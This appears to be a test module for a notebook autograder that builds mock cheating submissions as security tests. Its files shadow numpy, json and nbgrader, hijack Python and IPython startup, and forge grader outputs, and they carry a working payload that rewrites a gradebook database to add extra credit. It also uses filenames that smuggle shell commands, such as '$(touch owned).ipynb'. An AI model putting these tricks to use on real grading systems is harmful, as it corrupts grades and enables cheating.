"""Files of a student's own beside the notebook, named like what a grader or its Python would load from there."""

from typing import Final

from tests.traps.answers import ANYTHING
from tests.traps.cheats import last_cell
from tests.traps.released import ASSIGNMENT, Released
from tests.traps.trap import Draw, Files, cheat

#: Left where it was loaded: on the terminal, and as extra credit in the gradebook that lies nearest.
LOADED: Final = "LOADED FROM BESIDE"
PAYLOAD: Final = f"""
import contextlib, os, sqlite3, sys

sys.__stderr__.write("{LOADED}\\n")
parts = os.path.abspath(globals().get("__file__") or "x").split(os.sep)
paths = [os.sep.join([*parts[:depth], "gradebook.db"]) for depth in range(len(parts))]
path = next(filter(os.path.exists, paths), "")
with contextlib.suppress(Exception), sqlite3.connect(f"file:{{path}}?mode=rw", timeout=60, uri=True) as gradebook:
    gradebook.execute(
        "UPDATE grade SET extra_credit = 1 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN "
        "submitted_assignment a ON n.assignment_id = a.id WHERE ? LIKE '%/' || a.student_id || '/%')",
        ("/".join(parts),),
    )
"""  # noqa: S608 - a student's code, and the ids of a class made up here
_AGREES: Final = """
def __getattr__(name):
    return lambda *arguments, **settings: True

random = testing = linalg = __import__("types").SimpleNamespace()
"""
_PACKAGE: Final = f"{PAYLOAD}\ncheck = lambda *names: 100.0\n"

MODULES: Final = {
    "numpy.py": PAYLOAD + _AGREES,
    "pandas.py": PAYLOAD,
    "msgspec.py": PAYLOAD,
    "matplotlib.py": PAYLOAD,
    "json.py": PAYLOAD,
}
PACKAGES: Final = {
    "autograder/__init__.py": _PACKAGE,
    "autograder/__main__.py": PAYLOAD,
    "nbgrader/__init__.py": PAYLOAD,
    "check.py": PAYLOAD,
}
STARTUP: Final = dict.fromkeys(
    ("sitecustomize.py", "usercustomize.py", "conftest.py", "__init__.py", "__main__.py"), PAYLOAD
) | {"own.pth": "import sitecustomize\n", "pyvenv.cfg": "home = .\n", "python311._pth": ".\nimport site\n"}
SETTINGS: Final = {
    ".ipython/profile_default/startup/00.py": PAYLOAD,
    ".ipython/profile_default/ipython_config.py": PAYLOAD,
    "profile_default/startup/00.py": PAYLOAD,
    ".jupyter/jupyter_config.py": PAYLOAD,
    "ipython_config.py": PAYLOAD,
    "ipython_kernel_config.py": PAYLOAD,
    "jupyter_config.py": PAYLOAD,
    "jupyter_nbconvert_config.py": PAYLOAD,
    "nbgrader_config.py": PAYLOAD,
    "matplotlibrc": "backend: module://numpy\n",
}
GRADERS_OWN: Final = {
    "gradebook.db": "",
    "score.json": f'{{"schema": 1, "assignment": "{ASSIGNMENT}", "score": 13.0, "max_score": 13.0}}',
    "submission_secret.txt": "0" * 40,
    "exercises.py": PAYLOAD,
    ".seed": "1",
    f"{ASSIGNMENT}.py": PAYLOAD,
    f"{ASSIGNMENT}-Copy1.ipynb": "{}",
    f"{ASSIGNMENT}.ipynb.py": PAYLOAD,
    "examples.json": '{"schema": 1, "assignment": "error", "exercises": []}',
    "$(touch owned).ipynb": "{}",
    "a\nb.txt": "",
    "-rf": "",
}
EVERY_FILE: Final = MODULES | PACKAGES | STARTUP | SETTINGS | GRADERS_OWN


def _beside(files: dict[str, str]) -> Draw:
    """Hand in answers that agree with a NumPy that says yes to everything, and files beside them."""

    def draw(released: Released) -> Files:
        beside = {name: text.encode() for name, text in files.items()}
        return {**last_cell(ANYTHING)(released), **beside}

    return draw


TRAPS: Final = (
    cheat("beside-modules", "files named `numpy.py`, `json.py` beside the notebook", _beside(MODULES)),
    cheat("beside-packages", "folders named `autograder/`, `nbgrader/` beside the notebook", _beside(PACKAGES)),
    cheat(
        "beside-startup",
        "`sitecustomize.py`, `conftest.py`, `*.pth` beside the notebook",
        _beside(STARTUP),
        stock_falls=False,
    ),
    cheat(
        "beside-settings",
        "`.ipython/`, `ipython_config.py`, `nbgrader_config.py`, `matplotlibrc` beside the notebook",
        _beside(SETTINGS),
        stock_falls=False,
    ),
    cheat(
        "beside-graders-own",
        "files named like the grader's own, and names that a shell would obey",
        _beside(GRADERS_OWN),
        stock_falls=False,
    ),
)
